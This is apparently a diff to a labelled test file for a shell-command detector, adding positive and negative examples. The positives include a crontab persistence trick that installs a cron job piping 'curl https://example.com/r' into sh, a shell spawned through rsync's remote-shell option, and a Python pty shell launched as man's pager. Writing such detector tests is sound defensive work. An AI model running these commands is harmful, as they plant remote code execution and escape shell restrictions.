@@ -607,3 +607,11 @@ export VISUAL="sed -i '\$a */30 * * * * curl -fsSL https://example.com/r | sh'"
 #@ pos crontab -e in a child shell, with the editor exported before it
 export VISUAL="sed -i '\$a */30 * * * * curl -fsSL https://example.com/r | sh'"
 bash -c 'crontab -e'
+#@ pos a shell as rsync's remote shell, on the terminal's descriptors
+rsync -e 'sh -c "sh 0<&2 1>&2"' 127.0.0.1:/dev/null
+#@ pos an interpreter as man's pager, option and code in one word
+man --pager='python3 -c "import pty; pty.spawn(\"/bin/sh\")"' ls
+#@ neg ssh as rsync's remote shell and less as man's pager
+rsync -a --rsh='ssh -p 2222' ./d/ h:/d/
+rsync -e ssh ./d/ h:/d/
+man -P 'less -R' ls
